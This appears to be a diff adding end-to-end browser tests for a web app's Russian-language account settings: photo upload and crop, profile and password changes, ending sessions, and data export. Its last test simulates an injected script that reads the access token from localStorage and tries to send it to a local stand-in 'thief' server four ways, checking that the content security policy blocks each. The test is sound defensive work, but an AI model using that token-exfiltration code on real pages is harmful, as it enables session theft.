@@ -1,0 +1,215 @@
+import { once } from 'node:events'
+import { readFile } from 'node:fs/promises'
+import { createServer } from 'node:http'
+import type { Page } from '@playwright/test'
+import { z } from 'zod'
+import { checkAccessibility } from './lib/accessibility.ts'
+import { foundCompany } from './lib/company.ts'
+import { smallest } from './lib/screens.ts'
+import { fillLogin, signIn } from './lib/sign-in.ts'
+import { expect, mailedTest } from './lib/test.ts'
+
+const AddressOfThief = z.object({ port: z.number() })
+
+const card = (page: Page, name: string) => page.getByRole('region', { name })
+/** The photo beside the name in the sidebar, as it is shown on every screen. */
+const ownPhoto = (page: Page) => page.getByRole('complementary').locator('img')
+
+/** A picture as a browser makes one: no file of the repository is needed for it. */
+const aPicture = (page: Page) =>
+  page.evaluate(async () => {
+    const canvas = document.createElement('canvas')
+    canvas.width = 900
+    canvas.height = 600
+    const pen = canvas.getContext('2d')
+    if (pen) {
+      pen.fillStyle = '#3b6'
+      pen.fillRect(0, 0, 900, 600)
+    }
+    const blob = await new Promise<Blob | null>((resolve) => canvas.toBlob(resolve, 'image/png'))
+    return [...new Uint8Array((await blob?.arrayBuffer()) ?? new ArrayBuffer())]
+  })
+
+mailedTest.describe('own settings', () => {
+  mailedTest(
+    'photo with its crop, name, password, a session elsewhere ended, and the own data downloaded',
+    async ({ page, mailed, faults, openDevice }) => {
+      faults.expect(/status of 40[01]/)
+      const { owner } = await foundCompany(mailed)
+      await signIn(page, owner)
+      await page.getByRole('link', { name: 'Настройки' }).click()
+      await expect(page.getByRole('heading', { level: 1, name: 'Настройки' })).toBeVisible()
+
+      const file = page.getByLabel('Файл с фото')
+      await file.setInputFiles({ name: 'cv.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF') })
+      await expect(page.getByText('Пожалуйста, выберите изображение')).toBeVisible()
+      const large = Buffer.alloc(5 * 1024 * 1024 + 1)
+      await file.setInputFiles({ name: 'large.png', mimeType: 'image/png', buffer: large })
+      await expect(page.getByText('Файл слишком большой. Максимальный размер: 5MB')).toBeVisible()
+
+      const picture = { name: 'me.png', mimeType: 'image/png', buffer: Buffer.from(await aPicture(page)) }
+      await file.setInputFiles(picture)
+      const dialog = page.getByRole('dialog', { name: 'Обрезка аватара' })
+      await dialog.getByRole('button', { name: 'Отмена' }).click()
+      await expect(dialog).toBeHidden()
+      await file.setInputFiles(picture)
+      await dialog.getByRole('slider', { name: 'Масштаб' }).press('ArrowRight')
+      await dialog.getByRole('group', { name: /^Видимая часть фото/ }).press('ArrowLeft')
+      await checkAccessibility(page, 'cropper')
+      await dialog.getByRole('button', { name: 'Сохранить' }).click()
+      await expect(page.getByText('Аватар успешно загружен!')).toBeVisible()
+      await expect(dialog).toBeHidden()
+      await expect(ownPhoto(page)).toHaveAttribute('src', /^\/photos\//)
+      await expect.poll(() => ownPhoto(page).evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(512)
+
+      const profile = card(page, 'Основная информация')
+      await expect(profile.getByText('Email нельзя изменить')).toBeVisible()
+      await expect(profile.getByLabel('Email')).toHaveJSProperty('readOnly', true)
+      await profile.getByLabel('Имя').fill('')
+      await profile.getByLabel('Имя').blur()
+      await expect(profile.getByText('Введите имя')).toBeVisible()
+      await profile.getByLabel('Имя').fill('Антонина')
+      await page.getByRole('link', { name: 'Дашборд' }).click()
+      const leaving = page.getByRole('dialog', { name: 'Уйти без сохранения?' })
+      await leaving.getByRole('button', { name: 'Остаться' }).click()
+      await profile.getByRole('button', { name: 'Сохранить изменения' }).click()
+      await expect(page.getByText('Профиль успешно обновлен!')).toBeVisible()
+      await expect(page.getByRole('complementary').getByText(`Антонина ${owner.last_name}`)).toBeVisible()
+
+      const other = await openDevice()
+      await signIn(other, owner)
+      const password = card(page, 'Смена пароля')
+      const save = password.getByRole('button', { name: 'Изменить пароль' })
+      await password.getByLabel('Текущий пароль').fill('не тот пароль')
+      await password.getByLabel('Новый пароль', { exact: true }).fill('Новый-омут-58')
+      await expect(password.getByText('Пожалуйста, заполните все поля и убедитесь, что пароли совпадают')).toBeVisible()
+      await expect(save).toBeDisabled()
+      await password.getByLabel('Новый пароль ещё раз').fill('Новый-омут-58')
+      await save.click()
+      await expect(page.getByText('Ошибка смены пароля')).toBeVisible()
+      await expect(password.getByText('Неверный текущий пароль')).toBeVisible()
+      await password.getByLabel('Текущий пароль').fill(owner.password)
+      await save.click()
+      await expect(page.getByText('Пароль успешно изменен!')).toBeVisible()
+      await expect(password.getByLabel('Текущий пароль')).toHaveValue('')
+      await other.reload()
+      await expect(other).toHaveURL(/\/login$/)
+      await fillLogin(other, { ...owner, password: 'Новый-омут-58' })
+      await expect(other.getByRole('navigation', { name: 'Главное меню' })).toBeAttached()
+
+      await page.reload()
+      const sessions = card(page, 'Активные сеансы')
+      await expect(sessions.getByRole('listitem')).toHaveCount(2)
+      await expect(sessions.getByRole('listitem').first()).toContainText('эта сессия')
+      await sessions.getByRole('button', { name: /^Завершить: Chrome на / }).click()
+      await expect(page.getByText('Сеанс завершён')).toBeVisible()
+      await expect(sessions.getByRole('listitem')).toHaveCount(1)
+      await other.reload()
+      await expect(other).toHaveURL(/\/login$/)
+
+      const download = page.waitForEvent('download')
+      await page.getByRole('button', { name: 'Скачать мои данные' }).click()
+      const html = await readFile(await (await download).path(), 'utf8')
+      for (const word of ['Антонина', owner.email, 'Обработка персональных данных', 'data:image/jpeg;base64,'])
+        expect(html).toContain(word)
+      const json = page.waitForEvent('download')
+      await page.getByRole('button', { name: 'Скачать в JSON' }).click()
+      const data: unknown = JSON.parse(await readFile(await (await json).path(), 'utf8'))
+      expect(data).toMatchObject({ profile: { first_name: 'Антонина', email: owner.email } })
+    },
+  )
+
+  mailedTest.describe('on a phone', () => {
+    mailedTest(
+      'all other sessions are ended at once, and the photo is taken away',
+      async ({ page, mailed, openDevice }) => {
+        const { owner } = await foundCompany(mailed)
+        for (const device of [await openDevice(), await openDevice()]) await signIn(device, owner)
+        await signIn(page, owner)
+        await page.setViewportSize(smallest)
+        await page.goto('/app/settings')
+        const sessions = card(page, 'Активные сеансы')
+        await sessions.getByRole('button', { name: 'Завершить все остальные' }).click()
+        await page.getByRole('dialog').getByRole('button', { name: 'Завершить' }).click()
+        await expect(page.getByText('Остальные сеансы завершены')).toBeVisible()
+        await expect(sessions.getByRole('listitem')).toHaveText([/эта сессия/])
+
+        await page
+          .getByLabel('Файл с фото')
+          .setInputFiles({ name: 'me.png', mimeType: 'image/png', buffer: Buffer.from(await aPicture(page)) })
+        await page.getByRole('dialog').getByRole('button', { name: 'Сохранить' }).click()
+        await page.getByRole('button', { name: 'Удалить' }).click()
+        await page.getByRole('dialog').getByRole('button', { name: 'Удалить' }).click()
+        await expect(page.getByText('Фото удалено')).toBeVisible()
+        await expect(card(page, 'Фото').locator('img')).toHaveCount(0)
+      },
+    )
+
+    mailedTest('a name that was not saved waits for the person', async ({ page, mailed }) => {
+      const { owner } = await foundCompany(mailed)
+      await signIn(page, owner)
+      await page.setViewportSize(smallest)
+      await page.goto('/app/settings')
+      await page.getByLabel('Имя').fill('Тося')
+      await page.reload()
+      await expect(page.getByLabel('Имя')).toHaveValue('Тося')
+      await expect(page.getByRole('button', { name: 'Сохранить изменения' })).toBeEnabled()
+    })
+  })
+})
+
+mailedTest(
+  'A-71: a script that got into the page reaches no other host, and signing out leaves it nothing',
+  async ({ page, mailed, faults }) => {
+    faults.expect(/policy violated|Content Security Policy|ERR_BLOCKED|Failed to load resource/)
+    const { owner } = await foundCompany(mailed)
+    await signIn(page, owner)
+    const reached: (string | undefined)[] = []
+    const thief = createServer((request, response) => {
+      reached.push(request.url)
+      response.end()
+    }).listen(0, '127.0.0.1')
+    await once(thief, 'listening')
+    const { port } = AddressOfThief.parse(thief.address())
+    const outcomes = await page.evaluate(async (address) => {
+      const stolen = localStorage.getItem('access_token') ?? ''
+      const violated: string[] = []
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+        violated.push(effectiveDirective),
+      )
+      const fetched = await fetch(`${address}?${stolen}`).then(
+        () => 'sent',
+        () => 'blocked',
+      )
+      const loaded = await new Promise<string>((resolve) => {
+        const image = new Image()
+        image.onload = () => resolve('sent')
+        image.onerror = () => resolve('blocked')
+        image.src = `${address}?${stolen}`
+      })
+      navigator.sendBeacon(address, stolen)
+      const form = document.createElement('form')
+      form.method = 'post'
+      form.action = address
+      document.body.append(form)
+      form.submit()
+      await new Promise((resolve) => setTimeout(resolve, 300))
+      return { fetched, loaded, violated: [...new Set(violated)].toSorted() }
+    }, `http://127.0.0.1:${port}/`)
+    expect(outcomes).toEqual({
+      fetched: 'blocked',
+      loaded: 'blocked',
+      violated: ['connect-src', 'form-action', 'img-src'],
+    })
+    thief.close()
+    expect(reached).toEqual([])
+
+    const answer = page.waitForResponse(/\/api\/auth\/logout$/)
+    await page.getByRole('button', { name: 'Выйти' }).click()
+    expect((await answer).headers()['clear-site-data']).toBe('"storage"')
+    await expect(page).toHaveURL(/\/login$/)
+    expect(await page.evaluate(() => Object.keys(localStorage).filter((key) => /token|user|draft/.test(key)))).toEqual(
+      [],
+    )
+  },
+)
